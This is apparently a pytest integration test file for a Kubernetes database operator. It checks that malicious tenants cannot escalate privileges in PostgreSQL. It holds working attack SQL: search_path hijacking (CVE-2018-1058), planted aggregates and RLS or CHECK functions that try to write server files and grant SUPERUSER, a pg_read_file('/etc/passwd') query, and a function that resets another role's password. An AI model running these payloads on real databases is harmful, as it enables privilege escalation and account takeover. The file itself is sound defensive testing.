"""Tenants are untrusted: an environment's role owns its database and may plant code there.

Attacks, on the real operator and PostgreSQL. The tenant, holding only its own database
Secret, plants the known ways (CVE-2018-1058) to make a more privileged session run its
code, then waits for the operator to work in its database: drift repair, an inline
backup and its manifest counts, a restore and its row counts, a drill and its checks.
The planted code tries what only an administrator could do: write a server file and
make the tenant's role a superuser. Whatever the operator runs in a tenant's database
runs logged in as the tenant's own role, so neither may ever happen.

The traps:
- a view ``evil.pg_namespace`` and a database ``search_path`` of ``evil, pg_catalog``:
  an unqualified catalog query reads the view;
- an aggregate ``evil.count(*)`` and a function ``evil.format(text, name, name)`` that
  an unqualified ``count(*)`` or ``format('%I.%I', ...)`` would call;
- a row-level-security policy calling the tenant's function (a non-superuser admin,
  not the table's owner, would evaluate it; a superuser bypasses RLS);
- a CHECK constraint calling the tenant's function, evaluated for every row a restore
  copies in;
- a drill check that leaves ``SET ROLE`` with ``set_config('role', 'none', true)``.
Every trap first undoes any ``SET ROLE`` the same way, so "logged in as the admin, then
SET ROLE" counts as running as the admin, which it is.
"""

from __future__ import annotations

import asyncio
import os
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import asyncpg
import pytest

from dockyard.operator.database import database_identity
from dockyard.testbed.cluster import State
from tests.conftest import SESSION_ID, Kubectl
from tests.integration.test_backup_operator import (
    _apply,
    _backup,
    _environment,
    _fetch,
    _get,
    _key_secret,
    _owner_dsn,
    _wait_phase,
    migrated,  # noqa: F401  (the platform schema: the backup catalog and drill runs)
)
from tests.integration.test_drill_operator import RUN_NOW, _drill, _wait_last_run
from tests.integration.test_restore_operator import _empty_environment, _restore, _wait_restore

pytestmark = pytest.mark.usefixtures("operator_process")

TRAPS = """
CREATE SCHEMA evil;
-- Runs whatever privilege its caller has: the point of every trap below.
CREATE FUNCTION evil.spy(tag text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  -- Leave any SET ROLE: back to the user who logged in.
  PERFORM pg_catalog.set_config('role', 'none', true);
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L', current_user,
                              '{spies}/' || tag || '-' || current_user);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', '{role}');
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END
$f$;
CREATE VIEW evil.pg_namespace AS
  SELECT * FROM pg_catalog.pg_namespace WHERE evil.spy('view');
CREATE FUNCTION evil.count_step(bigint) RETURNS bigint LANGUAGE plpgsql AS $f$
BEGIN
  PERFORM evil.spy('aggregate');
  RETURN $1 + 1;
END
$f$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.count_step, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION evil.format(text, name, name) RETURNS text LANGUAGE plpgsql AS $f$
BEGIN
  PERFORM evil.spy('format');
  RETURN pg_catalog.format($1, $2, $3);
END
$f$;
CREATE TABLE public.guarded (id int);
INSERT INTO public.guarded VALUES (1), (2);
ALTER TABLE public.guarded ENABLE ROW LEVEL SECURITY;
CREATE POLICY spy ON public.guarded USING (evil.spy('rls'));
CREATE TABLE public.checked (id int CHECK (evil.spy('check')));
INSERT INTO public.checked VALUES (1);
ALTER DATABASE "{database}" SET search_path = evil, pg_catalog, public;
"""


def _run(dsn: str, sql: str) -> None:
    async def go() -> None:
        conn = await asyncpg.connect(dsn)
        try:
            await conn.execute(sql)
        finally:
            await conn.close()

    asyncio.run(go())


def _superuser(state: State, role: str) -> bool:
    rows = _fetch(
        state.managed_postgres_url, "SELECT rolsuper FROM pg_roles WHERE rolname = $1", role
    )
    return bool(rows and rows[0]["rolsuper"])


def _caught(spies: Path, tag: str) -> list[str]:
    """The roles the ``tag`` trap ran as with an administrator's power (its files)."""
    return sorted(p.name for p in spies.iterdir() if p.name.startswith(f"{tag}-"))


@pytest.fixture(scope="module")
def spies() -> Iterator[Path]:
    """A directory the server's OS user may write to: only an admin's COPY TO gets there."""
    path = Path(tempfile.mkdtemp(prefix="dockyard-spies-"))
    os.chmod(path, 0o1777)  # noqa: S103  (the server's OS user must be able to write here)
    yield path
    for child in path.iterdir():
        child.unlink()
    path.rmdir()


@pytest.fixture(scope="module")
def trapped(
    kubectl: Kubectl, testbed_state: State, backup_root: Path, operator_process: object, spies: Path
) -> Iterator[str]:
    """A namespace with environment ``shop`` whose own role has planted every trap, its
    key, and an empty environment ``copy`` to restore into."""
    namespace = f"t-tenant-{SESSION_ID}-{uuid.uuid4().hex[:4]}"
    kubectl("create", "namespace", namespace)
    try:
        _environment(kubectl, testbed_state, namespace)
        database, role = database_identity(namespace, "shop")
        _run(
            _owner_dsn(kubectl, namespace, "shop"),
            TRAPS.replace("{spies}", str(spies))
            .replace("{role}", role)
            .replace("{database}", database),
        )
        _key_secret(kubectl, namespace)
        _empty_environment(kubectl, namespace, "copy")
        yield namespace
    finally:
        kubectl(
            "delete",
            "restoredrills,restores,environments",
            "--all",
            "-n",
            namespace,
            "--timeout=60s",
            check=False,
        )
        kubectl("delete", "namespace", namespace, "--wait=false", check=False)


def _assert_never_privileged(state: State, spies: Path, namespace: str, *tags: str) -> None:
    for tag in tags:
        assert _caught(spies, tag) == [], f"the {tag} trap ran with an administrator's power"
    for environment in ("shop", "copy"):
        _, role = database_identity(namespace, environment)
        assert not _superuser(state, role), f"{role} became a superuser"


def test_drift_repair_never_reads_a_planted_catalog_view_as_the_admin(
    kubectl: Kubectl, testbed_state: State, trapped: str, spies: Path
) -> None:
    # Drift repair runs every 3 s in the session operator: three passes at least.
    env = _get(kubectl, trapped, "environment", "shop") or {}
    generation = env["metadata"]["generation"]
    asyncio.run(asyncio.sleep(10))

    _assert_never_privileged(testbed_state, spies, trapped, "view")
    env = _get(kubectl, trapped, "environment", "shop") or {}
    assert env["status"]["database"]["ready"] is True
    assert env["status"]["observedGeneration"] == generation


@pytest.fixture(scope="module")
def nightly(kubectl: Kubectl, backup_root: Path, trapped: str) -> dict[str, Any]:
    """The status of an inline Backup ``nightly`` of the trapped environment, once done."""
    _apply(kubectl, trapped, _backup(trapped, "nightly", backup_root))
    return _wait_phase(kubectl, trapped, "nightly", "Completed", timeout=180)


def test_a_backup_counts_rows_as_the_tenant_whatever_it_planted(
    testbed_state: State, trapped: str, spies: Path, nightly: dict[str, Any]
) -> None:
    status = nightly

    _assert_never_privileged(testbed_state, spies, trapped, "aggregate", "format", "rls", "view")
    tables = {t["name"]: t["rows"] for t in status["manifest"]["tables"]}
    # The tenant owns its tables and bypasses its own policy; every row is counted.
    assert tables["public.guarded"] == 2
    assert tables["public.checked"] == 1


@pytest.mark.usefixtures("nightly")
def test_a_restore_copies_rows_in_as_the_tenant_whatever_its_constraints_call(
    kubectl: Kubectl, testbed_state: State, trapped: str, spies: Path
) -> None:
    _apply(
        kubectl,
        trapped,
        _restore(
            "to-copy",
            source={"backupRef": {"name": "nightly"}},
            target={"environmentRef": {"name": "copy"}},
            safetyBackup=False,
        ),
    )

    _wait_restore(kubectl, trapped, "to-copy", "Completed", timeout=180)

    _assert_never_privileged(testbed_state, spies, trapped, "check", "aggregate", "format")
    # The CHECK constraint ran for the restored row, as the target's role.
    copy = _owner_dsn(kubectl, trapped, "copy")
    assert [r["id"] for r in _fetch(copy, "SELECT id FROM public.checked")] == [1]


ESCAPE = "SELECT current_user::text FROM (SELECT pg_catalog.set_config('role', 'none', true)) s"
READ_SERVER_FILE = (
    "SELECT pg_catalog.pg_read_file('/etc/passwd')"
    " FROM (SELECT pg_catalog.set_config('role', 'none', true)) s"
)
LONG_VALUE = "SELECT pg_catalog.repeat('x', 1000)"


@pytest.mark.usefixtures("nightly")
def test_drill_checks_run_as_the_tenant_and_record_short_values_only(
    kubectl: Kubectl, testbed_state: State, trapped: str, spies: Path
) -> None:
    checks = [
        {"name": "who", "query": ESCAPE, "expect": "nobody"},
        {"name": "passwd", "query": READ_SERVER_FILE, "expect": "nothing"},
        {"name": "long", "query": LONG_VALUE, "expect": "short"},
    ]
    _apply(
        kubectl,
        trapped,
        _drill("escape", annotations=RUN_NOW, checks={"rowCounts": False, "sql": checks}),
    )

    status = _wait_last_run(kubectl, trapped, "escape", timeout=180)

    _, role = database_identity(trapped, "shop")
    failed = {f["check"]: f["reason"] for f in status["lastRun"]["failedChecks"]}
    assert set(failed) == {"sql/who", "sql/passwd", "sql/long"}, failed
    # SET ROLE undone is still the tenant: it logged in as itself.
    assert f"got {role}" in failed["sql/who"], failed["sql/who"]
    # No server file, whatever the check asked for.
    assert "root:" not in failed["sql/passwd"]
    assert "permission denied" in failed["sql/passwd"], failed["sql/passwd"]
    # What status keeps of a value is short.
    assert "x" * 200 not in failed["sql/long"]
    assert len(failed["sql/long"]) < 400
    _assert_never_privileged(testbed_state, spies, trapped, "check")


HIJACK = """
CREATE FUNCTION public.hijack() RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  IF current_user::text <> '{source}' THEN
    -- Whatever role restores this row: its password, its settings, a grant to the source.
    EXECUTE pg_catalog.format('ALTER ROLE %I PASSWORD %L', current_user, 'known-to-shop');
    EXECUTE pg_catalog.format('ALTER ROLE %I SET work_mem = %L', current_user, '64kB');
    BEGIN
      EXECUTE pg_catalog.format('GRANT %I TO %I', current_user, '{source}');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
  RETURN true;
END
$f$;
CREATE TABLE public.hooked (id int CHECK (public.hijack()));
INSERT INTO public.hooked VALUES (1);
"""


def test_a_restore_of_another_environments_backup_leaves_the_targets_role_its_own(
    kubectl: Kubectl, testbed_state: State, backup_root: Path, namespace: str
) -> None:
    """``shop``'s owner plants a CHECK that, run as any other role, changes that role's
    password and settings and grants it to ``shop``; a restore of ``shop``'s backup
    into ``copy`` runs it as ``copy``'s role. The restore still completes, and ``copy``'s
    role is its own again: only its Secret's password logs in, no setting stays, and
    ``shop``'s role holds no membership in it."""
    _environment(kubectl, testbed_state, namespace)
    _, source = database_identity(namespace, "shop")
    _run(_owner_dsn(kubectl, namespace, "shop"), HIJACK.replace("{source}", source))
    _key_secret(kubectl, namespace)
    _empty_environment(kubectl, namespace, "copy")
    copy_dsn = _owner_dsn(kubectl, namespace, "copy")
    _apply(kubectl, namespace, _backup(namespace, "nightly", backup_root))
    _wait_phase(kubectl, namespace, "nightly", "Completed", timeout=180)

    _apply(
        kubectl,
        namespace,
        _restore(
            "into-copy",
            source={"backupRef": {"name": "nightly"}},
            target={"environmentRef": {"name": "copy"}},
            safetyBackup=False,
        ),
    )
    _wait_restore(kubectl, namespace, "into-copy", "Completed", timeout=180)

    _, target = database_identity(namespace, "copy")
    # The hijack did run, as copy's role: the restored row passed its CHECK.
    assert [r["id"] for r in _fetch(copy_dsn, "SELECT id FROM public.hooked")] == [1]
    admin = testbed_state.managed_postgres_url
    [row] = _fetch(
        admin,
        "SELECT rolconfig, pg_has_role($2, oid, 'MEMBER') AS shop_is_member"
        " FROM pg_roles WHERE rolname = $1",
        target,
        source,
    )
    assert row["rolconfig"] is None
    assert row["shop_is_member"] is False

    async def known_password_works() -> bool:
        host_dsn = copy_dsn.replace(copy_dsn.split("@")[0], f"postgresql://{target}:known-to-shop")
        try:
            conn = await asyncpg.connect(host_dsn)
        except asyncpg.InvalidPasswordError:
            return False
        await conn.close()
        return True

    assert not asyncio.run(known_password_works())
    assert [r["who"] for r in _fetch(copy_dsn, "SELECT current_user::text AS who")] == [target]
